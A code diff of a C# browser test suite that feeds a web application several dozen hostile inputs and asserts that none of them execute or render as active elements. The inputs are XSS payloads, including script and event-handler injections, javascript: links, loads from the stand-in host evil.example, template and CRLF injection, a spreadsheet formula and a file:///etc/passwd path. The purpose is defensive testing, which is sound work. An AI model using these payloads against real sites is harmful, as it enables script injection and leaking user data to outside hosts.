@@ -8,16 +8,20 @@ public sealed class HostileTests(WebServer server)
 {
     static readonly string[] Attacks =
     [
-        "<script>window.struck=1</script>", "<img src=x onerror=window.struck=1>", "<svg onload=window.struck=1>", "<svg><script>window.struck=1</script></svg>",
-        "\"><script src=//evil.example/x.js></script>", "<iframe srcdoc='<script>parent.struck=1</script>'></iframe>", "<body onload=window.struck=1>",
+        "<script>window.struck=1</script>", "<img src=x onerror=window.struck=1>", "<svg onload=window.struck=1>",
+        "<svg><script>window.struck=1</script></svg>", "\"><script src=//evil.example/x.js></script>",
+        "<iframe srcdoc='<script>parent.struck=1</script>'></iframe>", "<body onload=window.struck=1>",
         "<a href=\"javascript:window.struck=1\">click</a>", "[click](javascript:window.struck=1)", "![x](http://evil.example/pixel.gif)",
-        "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example/x)}</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
-        "<base href=//evil.example/>", "<form action=//evil.example><button>go</button></form>", "<object data=//evil.example></object>",
-        "<math><mi xlink:href=javascript:window.struck=1>x</mi></math>", "{{constructor.constructor('window.struck=1')()}}", "${window.struck=1}", "`-window.struck-`",
-        "'-alert(1)-'", "\";window.struck=1;//", "</textarea><script>window.struck=1</script>", "</pre><script>window.struck=1</script>", "<!--<script>-->", "]]>",
-        "<details open ontoggle=window.struck=1>", "<input autofocus onfocus=window.struck=1>", "<video><source onerror=window.struck=1></video>", "&lt;script&gt;", "&#x3C;script&#x3E;",
-        "\u202Egnirts\u202C", "\u2028\u2029", "Z\u0351\u036B\u0343\u0368\u036A", "😀👩‍👩‍👧‍👦", new('A', 3000), "a\tb\nc\r\nd", "__proto__", "constructor", "toString", "[1] [2] [999]", "data:text/html,<script>window.struck=1</script>",
-        "#/runs?status=<script>", "%3Cscript%3E", "%00%0d%0aset-cookie:x=1", "=HYPERLINK(\"//evil.example\")", "file:///etc/passwd", "//evil.example", "\\u003cscript\\u003e", "<p is=x-y>",
+        "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example/x)}</style>",
+        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
+        "<form action=//evil.example><button>go</button></form>", "<object data=//evil.example></object>",
+        "<math><mi xlink:href=javascript:window.struck=1>x</mi></math>", "{{constructor.constructor('window.struck=1')()}}", "${window.struck=1}",
+        "`-window.struck-`", "'-alert(1)-'", "\";window.struck=1;//", "</textarea><script>window.struck=1</script>",
+        "</pre><script>window.struck=1</script>", "<!--<script>-->", "]]>", "<details open ontoggle=window.struck=1>",
+        "<input autofocus onfocus=window.struck=1>", "<video><source onerror=window.struck=1></video>", "&lt;script&gt;", "&#x3C;script&#x3E;",
+        "\u202Egnirts\u202C", "\u2028\u2029", "Z\u0351\u036B\u0343\u0368\u036A", "😀👩‍👩‍👧‍👦", new('A', 3000), "a\tb\nc\r\nd", "__proto__",
+        "constructor", "toString", "[1] [2] [999]", "data:text/html,<script>window.struck=1</script>", "#/runs?status=<script>", "%3Cscript%3E",
+        "%00%0d%0aset-cookie:x=1", "=HYPERLINK(\"//evil.example\")", "file:///etc/passwd", "//evil.example", "\\u003cscript\\u003e", "<p is=x-y>",
     ];
 
     [Fact]
@@ -26,7 +30,8 @@ public sealed class HostileTests(WebServer server)
         var texts = Attacks.Concat(Attacks.Select(attack => $"Is this safe? {attack} <b>bold</b>")).ToList();
         Assert.True(texts.Count >= 100, $"Only {texts.Count} texts.");
         var document = new StringBuilder("# Hostile <script>window.struck=1</script>\n\n");
-        foreach (var text in Attacks) document.Append("## ").Append(text.ReplaceLineEndings(" ")).Append("\n\nThe hostile heron says: ").Append(text).Append("\n\n");
+        foreach (var text in Attacks)
+            document.Append("## ").Append(text.ReplaceLineEndings(" ")).Append("\n\nThe hostile heron says: ").Append(text).Append("\n\n");
         await server.Read("<img src=x onerror=window.struck=1>.md", document.ToString());
         var runs = new List<Guid>();
         foreach (var (index, text) in texts.Index())
@@ -46,8 +51,9 @@ public sealed class HostileTests(WebServer server)
         await using var sheet = await Sheet.Open(server.Address);
         string[] addresses =
         [
-            "#/runs", $"#/runs?q={Uri.EscapeDataString(Attacks[0])}&label={Uri.EscapeDataString(Attacks[1])}", "#/inbox", "#/knowledge", "#/knowledge?q=hostile%20heron", "#/costs", "#/audit?tab=changes",
-            $"#/<script>/{Uri.EscapeDataString(Attacks[0])}", $"#/ask?run={runs[^1]}", $"#/runs/{runs[^2]}", $"#/runs/{runs[^1]}?v=11&pane=fact", $"#/runs/{runs[^1]}?v=9&pane=told",
+            "#/runs", $"#/runs?q={Uri.EscapeDataString(Attacks[0])}&label={Uri.EscapeDataString(Attacks[1])}", "#/inbox", "#/knowledge",
+            "#/knowledge?q=hostile%20heron", "#/costs", "#/audit?tab=changes", $"#/<script>/{Uri.EscapeDataString(Attacks[0])}",
+            $"#/ask?run={runs[^1]}", $"#/runs/{runs[^2]}", $"#/runs/{runs[^1]}?v=11&pane=fact", $"#/runs/{runs[^1]}?v=9&pane=told",
             .. runs.Take(100).Where((_, index) => index % 5 == 0).SelectMany(run => new[] { $"#/runs/{run}?pane=state", $"#/ask?run={run}" }),
         ];
         foreach (var address in addresses)
@@ -56,7 +62,8 @@ public sealed class HostileTests(WebServer server)
             await sheet.Page.Locator("main h1, main .trouble").First.WaitForAsync();
             await sheet.Page.WaitForTimeoutAsync(60);
             Assert.True(await sheet.Page.EvaluateAsync<bool>("window.struck === undefined"), $"{address} ran it.");
-            Assert.Equal(0, await sheet.Page.EvaluateAsync<int>("document.querySelectorAll('main script, main img, main iframe, main object, main style').length"));
+            Assert.Equal(
+                0, await sheet.Page.EvaluateAsync<int>("document.querySelectorAll('main script, main img, main iframe, main object, main style').length"));
         }
 
         // What the server refuses, such as a label that no run can have, is told as a sentence, and by the browser's console as a status.
